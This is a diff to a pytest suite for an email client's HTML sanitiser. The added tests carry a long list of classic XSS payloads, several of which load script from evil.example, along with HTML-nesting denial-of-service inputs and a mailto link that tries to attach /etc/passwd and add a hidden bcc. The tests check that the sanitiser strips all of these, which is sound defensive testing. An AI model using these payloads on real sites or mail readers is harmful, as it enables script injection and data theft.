@@ -43,9 +43,9 @@ VECTORS = {
     32: ("disposition notification", "<p>x</p>"),
     33: ("name of a link", '<a href="{it}">x</a>'),
     34: ("name to look up", '<link rel="dns-prefetch preconnect" href="{it}">'),
-    35: ("prefetch", '<link rel="prefetch prerender preload modulepreload" href="{it}" as="image">'),
+    35: ("prefetch", '<link rel="prefetch prerender preload" href="{it}" as="image">'),
     36: ("flash", '<object><param name="movie" value="{it}"><embed src="{it}"></object>'),
-    37: ("typeface", "<style>@font-face{{font-family:a;src:url({it})}}p{{font-family:a}}</style><p>x"),
+    37: ("typeface", "<style>@font-face{{font-family:a;src:url({it})}}p{{font:a}}</style><p>x"),
     38: ("frame", '<iframe src="{it}"></iframe><frameset><frame src="{it}"></frameset>'),
     39: ("refresh in a frame",
          '<iframe src="data:text/html,<meta http-equiv=refresh content=0;url={it}>"></iframe>'),
@@ -56,9 +56,9 @@ VECTORS = {
     44: ("script", "<script src='{it}'></script><script>new Image().src='{it}'</script>"),
     45: ("script in a script", "<script>document.write('<script src={it}><\\/script>')</script>"),
     46: ("drawing as a background",
-         "<div style=\"background:url('data:image/svg+xml,<svg><image href={it}/></svg>')\">x</div>"),
+         "<div style=\"background:url('data:image/svg+xml,<svg><image href={it}/></svg>')\">x"),
     47: ("drawing", '<svg><image href="{it}" xlink:href="{it}"/><use href="{it}#a"/></svg>'),
-    48: ("manifest", '<html manifest="{it}"><link rel="manifest" href="{it}"><body>x</body></html>'),
+    48: ("manifest", '<html manifest="{it}"><link rel="manifest" href="{it}">x</html>'),
     49: ("refresh", '<meta http-equiv="refresh" content="0;url={it}">'),
     50: ("object", '<object data="{it}" type="text/html"></object>'),
     51: ("search plug-in",
@@ -69,14 +69,14 @@ VECTORS = {
     55: ("poster of a film", '<video poster="{it}"></video>'),
     56: ("film of type mp4", '<video><source src="{it}" type="video/mp4"></video>'),
     57: ("film of type webm", '<video><source src="{it}" type="video/webm"></video>'),
-    58: ("film of type ogg", '<video><source src="{it}" type="video/ogg"><track src="{it}"></video>'),
-    59: ("source of a page", '<iframe src="view-source:{it}"></iframe><img src="view-source:{it}">'),
+    58: ("film of type ogg", '<video><source src="{it}" type="video/ogg"><track src="{it}">'),
+    59: ("source of a page", '<iframe src="view-source:{it}"></iframe><img src="{it}">'),
     60: ("share of a strange computer",
-         '<img src="\\\\127.0.0.1\\{canary}"><img src="//127.0.0.1/{canary}"><img src="{it}">'
-         '<a href="\\\\127.0.0.1\\{canary}">x</a><body background="\\\\127.0.0.1\\{canary}">'),
+         ('<img src="\\\\127.0.0.1\\{canary}"><img src="//127.0.0.1/{canary}"><img src="{it}">'
+          '<a href="\\\\127.0.0.1\\{canary}">x</a><body background="\\\\127.0.0.1\\{canary}">')),
     66: ("base, form and refresh together",
-         '<base href="{it}/"><img src="x.png"><form action="{it}"><button formaction="{it}">x</form>'
-         '<meta http-equiv="Refresh" content="0; URL={it}"><a href="https://x.example" ping="{it}">'),
+         ('<base href="{it}/"><img src="x.png"><form action="{it}"><button formaction="{it}">'
+          '</form><meta http-equiv="Refresh" content="0; URL={it}"><a href="//x" ping="{it}">')),
 }  # fmt: skip
 # Beyond the list: what newer programs let themselves be led astray by.
 FURTHER = {
@@ -214,3 +214,133 @@ def test_a_mail_asks_for_nothing_when_it_is_read(case: str, seen) -> None:
     assert asked[case] == Asked()
     assert outgoing[case] == 0
     assert server.asked == ["/control"]
+
+
+# What has run scripts in somebody's reader: the well-known forms, and how they were disguised.
+SCRIPTS = (
+    "<script>evil()</script>",
+    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
+    "<scr<script>ipt>evil()</scr</script>ipt>",
+    "<<SCRIPT>evil();//\\<</SCRIPT>",
+    "<script\x0b>evil()</script>",
+    "<script/random='x' src=http://evil.example></script>",
+    "<SCRIPT SRC=//evil.example/.j>",
+    '<IMG SRC="javascript:evil();">',
+    "<IMG SRC=javascript:evil()>",
+    "<IMG SRC=JaVaScRiPt:evil()>",
+    "<IMG SRC=`javascript:evil()`>",
+    '<IMG """><SCRIPT>evil()</SCRIPT>">',
+    "<IMG SRC=# onmouseover=\"evil()\">",
+    '<IMG SRC=/ onerror="evil()"></img>',
+    "<img src=x onerror=&#101;vil()>",
+    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;evil()>",
+    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097:evil()>",
+    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:evil()>",
+    '<IMG SRC="jav\tascript:evil();">',
+    '<IMG SRC="jav&#x0A;ascript:evil();">',
+    '<a href="java\0script:evil()">x</a>',
+    '<a href=" &#14; javascript:evil()">x</a>',
+    '<a href="\x01javascript:evil()">x</a>',
+    "<SCRIPT/XSS SRC='http://evil.example/x.js'></SCRIPT>",
+    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=evil()>",
+    "<BODY ONLOAD=evil()>",
+    '<BODY BACKGROUND="javascript:evil()">',
+    '<INPUT TYPE="IMAGE" SRC="javascript:evil();">',
+    '<IMG DYNSRC="javascript:evil()"><IMG LOWSRC="javascript:evil()">',
+    "<STYLE>li {list-style-image: url(\"javascript:evil()\");}</STYLE><UL><LI>x",
+    '<IMG SRC=\'vbscript:msgbox("evil")\'>',
+    '<a href="livescript:[evil]">x</a><a href="mocha:evil()">x</a>',
+    "<svg/onload=evil()>",
+    '<svg><script>evil()</script></svg>',
+    '<svg><a xlink:href="javascript:evil()"><text>x</text></a></svg>',
+    '<svg><animate onbegin=evil() attributeName=x dur=1s>',
+    "<BGSOUND SRC=\"javascript:evil();\">",
+    '<BR SIZE="&{evil()}">',
+    '<LINK REL="stylesheet" HREF="javascript:evil();">',
+    "<STYLE>@import'http://evil.example/x.css';</STYLE>",
+    '<META HTTP-EQUIV="Link" Content="<http://evil.example/x.css>; REL=stylesheet">',
+    '<STYLE>BODY{-moz-binding:url("http://evil.example/x.xml#xss")}</STYLE>',
+    '<IMG STYLE="xss:expr/*XSS*/ession(evil())">',
+    '<DIV STYLE="width: expression(evil());">x</DIV>',
+    '<DIV STYLE="background-image: url(javascript:evil())">x</DIV>',
+    '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:evil();">',
+    '<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=javascript:evil();">',
+    '<IFRAME SRC="javascript:evil();"></IFRAME>',
+    '<IFRAME SRC=# onmouseover="evil()"></IFRAME>',
+    '<FRAMESET><FRAME SRC="javascript:evil();"></FRAMESET>',
+    '<TABLE BACKGROUND="javascript:evil()"><TD BACKGROUND="javascript:evil()">x',
+    '<!--[if gte IE 4]><SCRIPT>evil();</SCRIPT><![endif]-->',
+    '<BASE HREF="javascript:evil();//">',
+    '<OBJECT TYPE="text/x-scriptlet" DATA="http://evil.example/x.html"></OBJECT>',
+    '<EMBED SRC="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmV2aWwoKTwvc2NyaXB0Pjwvc3ZnPg==">',
+    '<XML ID=I><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:evil();">]]></C></X></XML>',
+    "<HTML><BODY><?xml:namespace prefix='t' ns='urn:x'><t:set onbegin='evil()'></BODY></HTML>",
+    '<? echo("<SCR)"; echo("IPT>evil()</SCRIPT>"); ?>',
+    '<a href="http://x.example" onclick="evil()" onfocus=evil() autofocus tabindex=1>x</a>',
+    "<details open ontoggle=evil()><summary>x</summary></details>",
+    "<marquee onstart=evil()>x</marquee>",
+    "<video><source onerror=evil()></video><audio src onloadstart=evil()></audio>",
+    '<form><button formaction=javascript:evil()>x</button><isindex action=javascript:evil()>',
+    "<math><mi//xlink:href=\"data:x,<script>evil()</script>\">",
+    "<math><mtext><table><mglyph><style><img src=x onerror=evil()></style></table></mtext></math>",
+    "<noscript><p title=\"</noscript><img src=x onerror=evil()>\"></noscript>",
+    "<textarea></textarea><img src=x onerror=evil()>",
+    "<title></title><xmp><img title=\"</xmp><img src=x onerror=evil()>\"></xmp>",
+    '<a href="data:text/html;base64,PHNjcmlwdD5ldmlsKCk8L3NjcmlwdD4=">x</a>',
+    '<object data="data:text/html,<script>evil()</script>"></object>',
+    '<p style="font-family:\'<img src=x onerror=evil()>\'">x</p>',
+    '<template><script>evil()</script></template><slot onslotchange=evil()>x</slot>',
+)  # fmt: skip
+_TAG = re.compile(r"<([a-z][a-z0-9]*)((?:\s[^<>]*)?)>", re.IGNORECASE)
+_ATTRIBUTE = re.compile(r"""\s([^\s=>"']+)\s*=\s*("[^"]*"|'[^']*'|[^\s>]*)""")
+
+
+@pytest.mark.parametrize("script", SCRIPTS, ids=lambda script: script[:32])
+def test_case_067_no_script_survives_the_engine_or_the_window(script: str) -> None:
+    """And a second cleaning finds nothing that the first one left: what is clean stays as it is."""
+    html = f"<div><p>before</p>{script}</div>"
+    engine = safe_html(a_raw_mail("Content-Type: text/html; charset=utf-8", body=html))
+    window = small_markup(engine).html
+    for clean in (engine, window, small_markup(html).html):
+        assert "before" in clean
+        for tag, rest in _TAG.findall(clean):
+            assert tag.lower() not in {
+                "script",
+                "style",
+                "svg",
+                "math",
+                "iframe",
+                "object",
+                "embed",
+            }
+            for name, value in _ATTRIBUTE.findall(rest):
+                assert not name.lower().startswith("on"), (tag, name)
+                assert name.lower() not in {"style", "srcset", "background", "formaction", "action"}
+                scheme = value.strip("\"' ").partition(":")[0].lower()
+                assert name.lower() not in {"href", "src"} or scheme in {"http", "https", "mailto"}
+    again = safe_html(a_raw_mail("Content-Type: text/html; charset=utf-8", body=engine))
+    assert (again, small_markup(window).html) == (engine, window)
+
+
+@pytest.mark.parametrize(
+    "bomb",
+    ["<div>" * 200_000 + "x", "<table><tr>" + "<td>x" * 1_000_000 + "</table>",
+     "<table>" + "<tr><td>x</td></tr>" * 250_000 + "</table>"],
+    ids=["200,000 nested parts", "a row of a million cells", "a quarter of a million rows"],
+)  # fmt: skip
+def test_case_068_what_is_nested_or_wide_without_end_is_cut_in_seconds(bomb: str) -> None:
+    """From the mail to what the window would draw, in processor time."""
+    begun = time.process_time()
+    html = safe_html(a_raw_mail("Content-Type: text/html; charset=utf-8", body=bomb))
+    markup = small_markup(html)
+    assert time.process_time() - begun < 10
+    assert len(markup.html) < 2_000_000
+
+
+def test_case_065_a_mailto_in_a_mail_brings_no_file_and_no_hidden_recipient() -> None:
+    """The whole way: what the mail says, what is left of it, what a click would open."""
+    html = '<a href="mailto:a@b.example?attach=/etc/passwd&amp;bcc=spy@evil.example">write</a>'
+    left = small_markup(safe_html(a_raw_mail("Content-Type: text/html", body=html))).html
+    found = re.search(r'href="([^"]*)"', left)
+    assert found is not None
+    assert read_link(found[1].replace("&amp;", "&")).target == "mailto:a@b.example"
